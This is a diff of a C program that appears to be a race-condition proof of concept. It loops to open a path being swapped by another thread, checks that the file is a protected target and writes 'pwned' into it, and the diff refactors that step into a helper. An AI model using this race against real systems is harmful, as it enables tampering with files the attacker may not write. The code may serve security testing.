@@ -27,6 +27,8 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "protected.h"
+
 #define TRIES 20000
 #define N 200
 static char buf[4096];
@@ -110,17 +112,10 @@ int main(int argc, char **argv)
 	int tries;
 	for (tries = 0; tries < TRIES; tries++) {
 		unsigned long f0 = atomic_load(&flips);
-		int fd = open(buf, O_WRONLY | O_APPEND);
-		struct stat st;
-		if (fd >= 0 && fstat(fd, &st) == 0 &&
-		    st.st_ino == want.st_ino && st.st_dev == want.st_dev &&
-		    write(fd, "pwned\n", 6) == 6) {
-			printf("wrote the protected file (try %d)\n", tries);
+		if (wrote_protected(buf, &want, tries)) {
 			atomic_store(&stop, 1);
 			return 0;
 		}
-		if (fd >= 0)
-			close(fd);
 		while (atomic_load(&flips) == f0)
 			sched_yield();
 	}
